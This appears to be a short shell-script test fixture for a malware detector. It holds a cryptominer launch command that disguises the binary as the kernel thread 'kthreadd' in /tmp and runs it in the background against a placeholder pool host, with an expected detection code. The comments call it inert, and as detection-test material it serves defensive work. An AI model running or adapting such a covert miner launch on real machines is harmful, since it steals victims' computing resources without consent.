#!/bin/sh
# Inert fixture: the wallet is random base58 (no valid checksum); no miner binary is shipped.
MINER=/tmp/modelgate-canary/kthreadd
$MINER -o pool.modelgate.invalid:443 -u 4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK -k --tls --donate-level 1 &  # expect: YR401
